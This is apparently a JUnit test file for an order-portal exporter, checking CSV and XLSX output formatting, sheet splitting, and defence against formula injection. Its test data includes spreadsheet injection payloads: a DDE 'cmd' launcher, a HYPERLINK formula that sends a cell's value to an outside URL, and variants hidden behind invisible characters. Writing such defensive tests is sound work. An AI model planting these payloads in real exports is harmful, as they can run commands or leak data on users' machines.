package org.orderportal.base.table;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.orderportal.AnyDatabase;

@AnyDatabase
class ExportTableTest {

    private static final List<ExportCell> ROW = List.of(
            ExportCell.text("PO \"7\", Malmö; 🎉\r\nsecond line"),
            new ExportCell.Amount(new BigDecimal("-1234567.5")),
            new ExportCell.Amount(new BigDecimal("1E+3")),
            new ExportCell.Number(new BigDecimal("2.2500")),
            new ExportCell.Number(new BigDecimal("1E+4")),
            ExportCell.EMPTY,
            ExportCell.day(LocalDate.of(2026, 12, 1)),
            ExportCell.day(null),
            new ExportCell.Moment(LocalDateTime.of(2026, 11, 23, 9, 5, 59)));

    /** What OWASP names, and how such a text is hidden behind what nobody sees. */
    static List<String> formulas() {
        return List.of(
                "=1+1",
                "+46 40 123",
                "-1",
                "@SUM(A1:A9)",
                "\tcmd",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00a0=1+1",
                "\u200b=1+1",
                "\ufeff=1+1",
                "＝1+1",
                "＠SUM(1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
                "-2+3+cmd|' /C calc'!A0");
    }

    @Test
    void a_csv_file_for_english_readers_has_commas_and_decimal_points() throws IOException {
        assertThat(csv(Locale.UK, ROW)).isEqualTo("""
            \uFEFF"A","B"\r
            "PO ""7"", Malmö; 🎉\r
            second line",-1234567.50,1000.00,2.25,10000,,2026-12-01,,2026-11-23 09:05\r
            """);
    }

    @ParameterizedTest
    @ValueSource(strings = {"sv-SE", "fi-FI", "de-DE"})
    void where_the_decimal_sign_is_a_comma_cells_are_separated_by_semicolons(String language) throws IOException {
        assertThat(csv(Locale.forLanguageTag(language), ROW)).isEqualTo("""
            \uFEFF"A";"B"\r
            "PO ""7"", Malmö; 🎉\r
            second line";-1234567,50;1000,00;2,25;10000;;2026-12-01;;2026-11-23 09:05\r
            """);
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void no_text_of_a_csv_file_begins_like_a_formula(String text) throws IOException {
        var row = csv(Locale.UK, List.of(ExportCell.text(text))).split("\r\n", 2)[1];

        assertThat(row).isEqualTo("\"'" + text.replace("\"", "\"\"") + "\"\r\n");
    }

    @ParameterizedTest
    @ValueSource(strings = {"PO-1", "a=b", "4711-7", "Company + Sons", "'quoted'", "#N/A", "é=1"})
    void an_ordinary_text_of_a_csv_file_stays_as_it_is(String text) throws IOException {
        assertThat(csv(Locale.UK, List.of(ExportCell.text(text)))).endsWith("\r\n\"" + text + "\"\r\n");
    }

    @Test
    void a_csv_file_that_is_given_up_says_so_in_its_last_row() throws IOException {
        var out = new ByteArrayOutputStream();
        var table = new CsvTable(out, Locale.UK, List.of("A"));

        table.giveUp("Not complete");

        assertThat(out.toString(StandardCharsets.UTF_8)).endsWith("\"A\"\r\n\"Not complete\"\r\n");
    }

    @Test
    void a_workbook_has_numbers_as_numbers_and_days_as_days() throws IOException {
        var book = Workbook.of(xlsx(10, ROW));

        assertThat(book.sheets()).containsExactly("Orders");
        assertThat(book.rows(1)).hasSize(2);
        assertThat(book.rows(1).get(1))
                .containsExactly(
                        new Workbook.Cell("inlineStr", "PO \"7\", Malmö; 🎉\r\nsecond line", ""),
                        new Workbook.Cell("n", "-1234567.5", "#,##0.00##"),
                        new Workbook.Cell("n", "1000", "#,##0.00##"),
                        new Workbook.Cell("n", "2.2500", ""),
                        new Workbook.Cell("n", "10000", ""),
                        new Workbook.Cell("n", "46357.0", "yyyy-mm-dd"),
                        new Workbook.Cell("n", days("46349", 9, 5), "yyyy-mm-dd hh:mm"));
    }

    @ParameterizedTest
    @MethodSource("formulas")
    void no_text_of_a_workbook_is_or_becomes_a_formula(String text) throws IOException {
        var book = Workbook.of(xlsx(10, List.of(ExportCell.text(text))));

        assertThat(book.hasFormulas()).isFalse();
        assertThat(book.rows(1).get(1)).containsExactly(new Workbook.Cell("inlineStr", text, "@"));
    }

    @Test
    void what_does_not_fit_on_a_sheet_goes_on_with_the_next() throws IOException {
        var row = List.of(ExportCell.text("x"));
        var out = new ByteArrayOutputStream();
        var table = new XlsxTable(out, "Orders", List.of("A"), 3);
        for (int number = 1; number <= 5; number++) {
            table.row(row);
            table.pieceEnds();
        }
        table.finish();

        var book = Workbook.of(out.toByteArray());
        assertThat(book.sheets()).containsExactly("Orders", "Orders 2", "Orders 3");
        assertThat(book.texts(1)).containsExactly(List.of("A"), List.of("x"), List.of("x"));
        assertThat(book.texts(2)).containsExactly(List.of("A"), List.of("x"), List.of("x"));
        assertThat(book.texts(3)).containsExactly(List.of("A"), List.of("x"));
    }

    @Test
    void a_table_that_just_fits_has_no_empty_sheet_behind_it() throws IOException {
        var row = List.of(ExportCell.text("x"));

        assertThat(Workbook.of(xlsx(3, row, row)).sheets()).containsExactly("Orders");
        assertThat(Workbook.of(xlsx(3)).texts(1)).containsExactly(List.of("A"));
    }

    private static String days(String day, int hours, int minutes) {
        return String.valueOf(Double.parseDouble(day) + (hours * 60 + minutes) / 1440.0);
    }

    private static String csv(Locale locale, List<ExportCell> row) throws IOException {
        var out = new ByteArrayOutputStream();
        var heads = row.size() == 1 ? List.of("A") : List.of("A", "B");
        var table = new CsvTable(out, locale, heads);
        table.row(row);
        table.finish();
        return out.toString(StandardCharsets.UTF_8);
    }

    @SafeVarargs
    private static byte[] xlsx(int rowsOfASheet, List<ExportCell>... rows) throws IOException {
        var out = new ByteArrayOutputStream();
        var table = new XlsxTable(out, "Orders", List.of("A"), rowsOfASheet);
        for (var row : rows) {
            table.row(row);
            table.pieceEnds();
        }
        table.finish();
        return out.toByteArray();
    }
}
